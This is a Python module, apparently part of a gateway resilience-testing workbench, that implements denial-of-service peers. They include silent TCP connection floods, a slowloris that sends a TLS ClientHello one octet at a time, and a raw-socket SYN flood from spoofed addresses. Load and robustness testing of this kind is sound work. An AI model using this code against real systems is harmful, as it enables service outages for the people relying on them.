"""Peers that mean no good, against the access side of a gateway. They go step by step, so that work can go on beside.

Source: RFC 4987 (half-open connections); failures F3 to F5 of TS 23.334 §5.11.
"""

from __future__ import annotations

import random
import selectors
import socket
import ssl
import struct
from collections.abc import Callable, Sequence
from contextlib import suppress
from functools import partial
from typing import Protocol, Self

from load.client import Client
from load.hellos import Hellos
from workbench.net.values import Endpoint

_A_STEP = 100


class Attack(Protocol):
    """What they have in common. `opened`: connections that were made, or tried."""

    opened: int

    @property
    def all_opened(self) -> bool:
        """As many as were asked for have been sent or opened."""

    def step(self) -> object:
        """A little more of it."""

    def close(self) -> None:
        """Let it be over."""


class _Connections:
    """Connections from one address, opened a hundred a step."""

    def __init__(self, endpoints: Sequence[Endpoint], count: int, source: str) -> None:
        self.opened = 0
        self.refused = 0
        self._endpoints = endpoints
        self._count = count
        self._source = source
        self._open: list[socket.socket] = []

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        """Reset whatever is left."""
        for one in self._open:
            _reset(one)
        self._open.clear()

    @property
    def all_opened(self) -> bool:
        """As many as were asked for have been opened, whatever became of them."""
        return self.opened >= self._count

    def _open_some(self) -> list[socket.socket]:
        before = len(self._open)
        for _ in range(min(_A_STEP, self._count - self.opened)):
            made = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            made.setblocking(False)
            made.bind((self._source, 0))
            to = self._endpoints[self.opened % len(self._endpoints)]
            made.connect_ex((to.host, to.port))
            self._open.append(made)
            self.opened += 1
        return self._open[before:]

    def _drop(self, gone: list[socket.socket]) -> None:
        for one in gone:
            one.close()
        self.refused += len(gone)
        left = set(gone)
        self._open = [one for one in self._open if one not in left]


class Silent(_Connections):
    """They connect and never say a word. What the gateway refuses is closed: how many are open is its choice.

    Args:
        endpoints: where they connect, in turn.
        count: how many connect in all.
        source: their address.
    """

    def __init__(self, endpoints: Sequence[Endpoint], count: int, source: str) -> None:
        super().__init__(endpoints, count, source)
        self._ended = selectors.DefaultSelector()

    def step(self) -> None:
        """Open some more, and close what was refused."""
        for one in self._open_some():
            self._ended.register(one, selectors.EVENT_READ)
        gone = [key.fileobj for key, _ in self._ended.select(0) if isinstance(key.fileobj, socket.socket)]
        for one in gone:
            self._ended.unregister(one)
        self._drop(gone)

    def close(self) -> None:
        """Reset whatever is left."""
        self._ended.close()
        super().close()


class SlowLoris(_Connections):
    """TLS handshakes that send one octet a step."""

    def __init__(self, endpoints: Sequence[Endpoint], count: int, source: str) -> None:
        super().__init__(endpoints, count, source)
        self.octets = 0
        self._hello = _client_hello()
        self._sent: dict[socket.socket, int] = {}

    def step(self) -> None:
        """One octet more on each connection."""
        self._open_some()
        gone: list[socket.socket] = []
        for one in self._open:
            at = self._sent.get(one, 0)
            try:
                one.send(self._hello[at : at + 1])
            except BlockingIOError:
                continue
            except OSError:
                gone.append(one)
                self._sent.pop(one, None)
                continue
            self._sent[one] = min(at + 1, len(self._hello) - 2)  # it never ends
            self.octets += 1
        self._drop(gone)


class HalfOpen:
    """SYNs whose SYN, ACK is never answered, from made-up addresses: by a raw socket, in a namespace of one's own.

    Args:
        endpoints: where they go, in turn.
        count: how many in all; then again from the start.
        source: the first of 65,536 addresses that nobody has, a /16 that is routed into nowhere.

    Raises:
        PermissionError: no raw sockets.
    """

    def __init__(self, endpoints: Sequence[Endpoint], count: int, source: str) -> None:
        self.opened = 0
        self._endpoints = endpoints
        self._count = count
        self._network = socket.inet_aton(source)[:2]
        self._chance = random.Random(1)
        self._raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self._raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    @property
    def all_opened(self) -> bool:
        """As many as were asked for have left."""
        return self.opened >= self._count

    def step(self) -> None:
        """Some more SYNs."""
        for _ in range(_A_STEP):
            to = self._endpoints[self.opened % len(self._endpoints)]
            source = self._network + struct.pack("!H", 1 + self.opened % 65_000)
            with suppress(BlockingIOError):
                self._raw.sendto(self._syn(source, to), (to.host, 0))
            self.opened += 1

    def close(self) -> None:
        """No more SYNs."""
        self._raw.close()

    def _syn(self, source: bytes, to: Endpoint) -> bytes:
        destination = socket.inet_aton(to.host)
        segment = struct.pack("!HHIIBBHHH", self._chance.randint(1024, 65_535), to.port,
                              self._chance.getrandbits(32), 0, 5 << 4, 0x02, 65_535, 0, 0)
        pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
        segment = segment[:16] + struct.pack("!H", _checksum(pseudo + segment)) + segment[18:]
        # The kernel fills in length and header checksum.
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination) + segment


KINDS: dict[str, Callable[[Sequence[Endpoint], int, str], Attack]] = {
    "silent": Silent, "slow-loris": SlowLoris, "half-open": HalfOpen,
    "hellos": partial(Hellos, manner="bare"), "cookies": partial(Hellos, manner="returned")}


def _client_hello() -> bytes:
    out = ssl.MemoryBIO()
    session = Client().context.wrap_bio(ssl.MemoryBIO(), out)
    with suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return out.read()


def _checksum(octets: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF ^ (total + (total >> 16) & 0xFFFF)


def _reset(sock: socket.socket) -> None:
    with suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()
